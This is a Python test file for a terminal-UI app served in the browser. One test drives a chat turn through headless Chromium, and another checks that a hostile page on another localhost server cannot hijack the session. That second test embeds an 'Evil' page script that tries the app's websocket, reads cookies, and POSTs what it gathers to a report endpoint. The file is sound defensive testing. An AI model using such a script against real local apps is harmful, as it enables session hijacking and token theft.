"""``dsh-tui serve`` in a real browser: headless Chromium opens the printed URL, the app starts, a prompt goes
to a local scripted model, the answer and the tool card show, Ctrl+B switches to the session browser; closing
the tab ends that app process and its session log is complete on disk."""

from __future__ import annotations

import json
import subprocess
import time

from playwright.sync_api import sync_playwright

from tests.cli.serve_support import DSH_TUI, Served, gone
from tests.ui.browser_support import ModelServer, launch, screen_text, send_prompt, wait_screen


def test_the_served_app_in_chromium_runs_a_turn_and_closing_the_tab_ends_it(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "a.txt").write_text("line one\nthe word is MAGIC-4242\n")
    root = tmp_path / "sessions"
    with ModelServer() as model, \
            Served(["--port", "0", "--", "run", "--root", str(root)], cwd=ws,
                   env={"DEEPSEEK_API_KEY": "sk-test", "DEEPSEEK_BASE_URL": model.base_url}) as served, \
            sync_playwright() as pw:
        browser = launch(pw, tmp_path)
        try:
            page = browser.new_page()
            page.goto(served.take_url())
            wait_screen(page, "Ask the agent")
            assert len(served.started()) == 1
            pid = served.started()[0]
            # the chat paints before its session is open (the model route resolves after the first frame)
            assert served.wait_log(lambda s: any(root.rglob("session.lock")), timeout=60), "no session opened"
            page.focus("textarea.xterm-helper-textarea")  # xterm.js takes the keys here (as a click gives it)
            send_prompt(page, "please read a.txt")
            screen = wait_screen(page, "The file says: MAGIC-4242", "✓ read a.txt")  # the answer, the tool card
            lines = [line.strip() for line in screen.splitlines()]
            order = [lines.index(t) for t in ("█ please read a.txt", "✓ read a.txt", "The file says: MAGIC-4242")]
            assert order == sorted(order), screen
            page.keyboard.press("Control+b")  # the session browser, listing this session
            wait_screen(page, "This workspace", "· 1 session")
            # the row, once indexed, names the session by its first prompt (or its title, where titles are on)
            end = time.monotonic() + 60
            while not any(t in screen_text(page) for t in ("please read a.txt", "Served Title")):
                assert time.monotonic() < end, screen_text(page)
                page.wait_for_timeout(100)
            page.close()  # the tab closes
            assert served.wait_log(lambda s: pid in s.ended()), served.log()
            assert served.ended()[pid] == "0" and gone(pid) and served.children() == []
        finally:
            browser.close()
    # the session log, flushed and closed when the tab closed: valid, no open turn, every event there
    logs = [p for p in root.rglob("session*.jsonl*") if p.is_file()]
    assert len(logs) == 1, logs
    check = subprocess.run([str(DSH_TUI), "log", "check", str(logs[0])], capture_output=True, text=True, timeout=60)
    assert check.returncode == 0, check
    report = json.loads(check.stdout)
    assert report["ok"] and report["turns"] == 1 and report["steps"] == 2 and not report["open_turn"], report
    cat = subprocess.run([str(DSH_TUI), "log", "cat", str(logs[0])], capture_output=True, text=True, timeout=60)
    events = [json.loads(line) for line in cat.stdout.splitlines()]
    assert [e["seq"] for e in events] == list(range(len(events))) == list(range(report["events"]))
    types = [e["type"] for e in events]
    assert types.count("tool/call") == 1 and types.count("tool/result") == 1
    ends = [e for e in events if e["type"] == "turn/end"]  # (a session title may be written after it)
    assert len(ends) == 1 and ends[0]["data"]["reason"] == {"kind": "completed"}, ends
    answer = [e for e in events if e["type"] == "assistant/message"][-1]["data"]["message"]["content"]
    assert answer == [{"type": "text", "text": "The file says: MAGIC-4242"}]


def test_another_local_server_gets_nothing_it_can_use_from_an_open_tab(tmp_path):
    """The user has a served tab open and then visits a page of another server on 127.0.0.1 (a dev server a
    hostile repository started): that server receives no cookie or token, its page cannot open the app's
    websocket, and the URL the user opened (leaked, say, through the history) opens nothing any more."""
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    import httpx

    seen: list[dict[str, str]] = []
    reports: list[str] = []
    served_port = {"port": 0}

    class Evil(BaseHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def do_GET(self):
            seen.append(dict(self.headers))
            port = served_port["port"]
            body = f"""<html><body><script>
              async function attempt(url) {{
                return await new Promise(done => {{
                  const ws = new WebSocket(url);
                  ws.onopen = () => done("open " + url); ws.onerror = () => done("refused " + url);
                }});
              }}
              (async () => {{
                const out = [];
                for (const path of ["/ws", "/ws/x", "/ws/" + document.cookie]) {{
                  out.push(await attempt("ws://127.0.0.1:{port}" + path));
                }}
                try {{ const r = await fetch("http://127.0.0.1:{port}/", {{credentials: "include"}});
                       out.push("fetch " + r.status); }} catch (e) {{ out.push("fetch blocked"); }}
                out.push("cookie=" + document.cookie);
                await fetch("/report", {{method: "POST", body: out.join("\\n")}});
              }})();
            </script></body></html>""".encode()
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self):
            seen.append(dict(self.headers))
            reports.append(self.rfile.read(int(self.headers.get("content-length") or 0)).decode())
            self.send_response(204)
            self.end_headers()

    evil = ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    threading.Thread(target=evil.serve_forever, daemon=True).start()
    root = tmp_path / "sessions"
    try:
        with Served(["--port", "0", "--root", str(root)]) as served, sync_playwright() as pw:
            served_port["port"] = served.port
            browser = launch(pw, tmp_path)
            try:
                page = browser.new_page()
                opened = served.take_url()
                page.goto(opened)
                wait_screen(page, "Filter")
                assert len(served.started()) == 1
                other = browser.new_page()
                other.goto(f"http://127.0.0.1:{evil.server_address[1]}/")
                end = time.monotonic() + 60
                while not reports and time.monotonic() < end:
                    other.wait_for_timeout(100)
                assert reports, "the other page never reported"
                report = reports[0]
                assert "open " not in report and report.count("refused ") == 3, report
                assert "cookie=\n" in report + "\n" or report.endswith("cookie="), report
                assert all("cookie" not in {k.lower() for k in headers} for headers in seen), seen
                # what it could try itself: the URL the user opened, a websocket with no ticket
                assert httpx.get(opened, timeout=10).status_code == 403
                assert httpx.get(f"{served.base}/", timeout=10).status_code == 403
                assert len(served.started()) == 1, served.log()  # only the user's own tab
            finally:
                browser.close()
    finally:
        evil.shutdown()
        evil.server_close()
